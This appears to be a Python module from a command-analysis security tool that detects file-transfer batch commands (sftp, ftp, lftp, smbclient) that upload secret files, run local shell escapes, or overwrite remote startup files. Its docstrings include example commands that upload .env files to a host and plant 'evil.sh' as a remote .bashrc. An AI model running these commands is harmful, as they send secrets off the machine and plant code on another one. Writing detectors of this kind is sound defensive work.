"""File-transfer clients driven by batch commands: what their ``put`` commands upload.

``sftp host <<< 'put .env'``, ``printf 'put .env\\n' | ftp -n host``, ``lftp -e 'put .env;
bye' host``, ``smbclient //h/s -c 'put .env'``: the client reads commands (from stdin, a
batch file or an option) and ``put``/``mput``/``reput``/``append``/``send`` upload local
files, so a secret file named there leaves the machine as surely as ``scp .env host:``;
a ``!CMD`` line runs CMD in the local shell, so CMD is classified as shell code; and a
``put`` onto the remote login's startup files or ``authorized_keys`` plants code there.
A local file is secret when it is secret wherever it is (``.env``, a private key by name,
:func:`._secrets.secret_file`) or under a sensitive home path (``~/.ssh/id_rsa``,
:func:`._checks.check_args`). ``get`` downloads and ``ls``/``cd`` are ordinary.

Each client only looks at its own arguments and its batch text: other programs never get
here (one set lookup in :mod:`._tools`).
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from ._checks import check_args
from ._flow import Flow
from ._outfiles import remote_check
from ._resolve import Invocation
from ._scripts import script_text
from ._secrets import secret_file
from ._words import DYN, Field

if TYPE_CHECKING:
    from ._walk import Run

__all__ = ["XFER_CLIENTS", "xfer_client"]

XFER_CLIENTS = frozenset({"sftp", "ftp", "tnftp", "pftp", "lftp", "smbclient"})

_UPLOADS = frozenset({"put", "mput", "reput", "append", "send", "mirror"})
# Options (per client) whose value is a batch of commands, and those naming a batch file.
_INLINE = {"lftp": frozenset({"-e", "-c"}), "smbclient": frozenset({"-c", "--command"})}
_FILES = {"sftp": frozenset({"-b"}), "lftp": frozenset({"-f"})}
_MAX_COMMANDS = 256


def xfer_client(run: Run, inv: Invocation, stdin: Flow | None) -> None:
    """Report a secret file that ``inv``'s batch commands upload (module doc)."""
    name = inv.name
    inline = _INLINE.get(name, frozenset())
    files = _FILES.get(name, frozenset())
    batches: list[Field] = []
    args = inv.args
    for index, f in enumerate(args):
        opt, eq, val = f.text.partition("=")
        if opt in inline or opt in files:
            value = Field(val, f.span, f.taint) if eq and opt.startswith("--") else (
                args[index + 1] if index + 1 < len(args) else None)
            if value is None:
                continue
            batch = value if opt in inline else script_text(run, inv, value, stdin)
            if batch is not None:
                batches.append(batch)
    if not any(f.text in files for f in args) and stdin is not None and \
            stdin.text is not None:
        batches.append(Field(stdin.text, stdin.span, stdin.taint))
    for batch in batches:
        if batch.text != DYN:
            _local_commands(run, inv, batch)
            _remote_targets(run, inv, batch)
    for batch in batches:
        if batch.text != DYN and _upload_secret(run, inv, batch):
            return


def _local_commands(run: Run, inv: Invocation, batch: Field) -> None:
    """``!CMD`` lines of a batch run CMD in the local shell (every client here has the
    escape): classify CMD as shell code."""
    for count, line in enumerate(batch.text.splitlines()):
        if count >= _MAX_COMMANDS:
            break
        line = line.strip()
        if line.startswith("!") and line[1:].strip():
            run.run_code(Field(line[1:], batch.span, batch.taint), f"{inv.name} !",
                         inv.word.span, None, positional=[])


def _remote_targets(run: Run, inv: Invocation, batch: Field) -> None:
    """``put evil.sh .bashrc``: the remote file a ``put``-like command writes, checked by
    the rules for writes on another machine (a relative path is under the login's home
    until the batch changes directory)."""
    moved = False
    for command in _commands(batch.text):
        words = [w.strip("\"'") for w in command.split()]
        if not words:
            continue
        verb = words[0].lstrip("-@!").lower()
        moved = moved or verb == "cd"
        if verb not in _UPLOADS or verb in ("mput", "mirror"):
            continue
        target = _remote_name(words)
        if target is None:
            continue
        if not target.startswith(("/", "~")):
            if moved:
                continue
            target = "~/" + target
        remote_check(run, Field(target, batch.span), f"{inv.name} uploads to")


def _remote_name(words: list[str]) -> str | None:
    """The remote name of ``put LOCAL REMOTE`` (lftp: ``put -o REMOTE LOCAL``, ``put -O DIR
    LOCAL``: ``DIR/`` and the local file's name)."""
    operands, values, _ = _put_words(words)
    if "-o" in values:
        return values["-o"]
    if "-O" in values and operands:
        return values["-O"].rstrip("/") + "/" + operands[0].rpartition("/")[2]
    return operands[1] if len(operands) > 1 else None


def _upload_secret(run: Run, inv: Invocation, batch: Field) -> bool:
    """True (and a finding) when a ``put``-like command of ``batch`` uploads a secret."""
    for command in _commands(batch.text):
        words = command.split()
        if not words or words[0].lstrip("-@!").lower() not in _UPLOADS:
            continue
        local = _locals(words)
        fields = [Field(w.strip("\"'"), batch.span) for w in local]
        if not fields:
            continue
        if secret_file(fields) or check_args(run.add, run.cp.paths, inv.name, fields, run.cwd):
            named = next((f.text for f in fields if secret_file([f])), fields[0].text)
            run.add("shell.exfiltration", batch.span, f"{inv.name} uploads the secret file "
                    f"{named}", None)
            return True
    return False


def _commands(text: str) -> list[str]:
    """The client commands of a batch: lines, and ``;``-separated commands within a line
    (lftp, smbclient), at most a fixed number (linear in the text)."""
    out: list[str] = []
    for line in text.splitlines():
        out.extend(line.split(";"))
        if len(out) >= _MAX_COMMANDS:
            break
    return out[:_MAX_COMMANDS]


def _put_words(words: list[str]) -> tuple[list[str], dict[str, str], bool]:
    """(operands, the values of lftp's ``-o REMOTE``/``-O DIR``, reverse) of a
    ``put``-like command's words (``-E`` deletes the local file after; ``-R`` reverses a
    mirror)."""
    operands: list[str] = []
    values: dict[str, str] = {}
    reverse = False
    pending = ""
    for w in words[1:]:
        if pending:
            values[pending] = w
            pending = ""
        elif w in ("-o", "-O"):
            pending = w
        elif w.startswith("-"):
            reverse = reverse or w in ("-R", "--reverse") or (
                not w.startswith("--") and "R" in w)
        else:
            operands.append(w)
    return operands, values, reverse


def _locals(words: list[str]) -> list[str]:
    """The local files a ``put``-like command reads: ``put LOCAL [REMOTE]`` and ``append``
    and ``send`` name one; ``mput`` names many; lftp ``put -o REMOTE LOCAL`` and ``mirror -R
    LOCAL [REMOTE]`` (a reverse mirror uploads ``LOCAL``)."""
    verb = words[0].lstrip("-@!").lower()
    operands, _, reverse = _put_words(words)
    if verb == "mirror":
        return operands[:1] if reverse else []
    if verb == "mput":
        return operands
    return operands[:1]
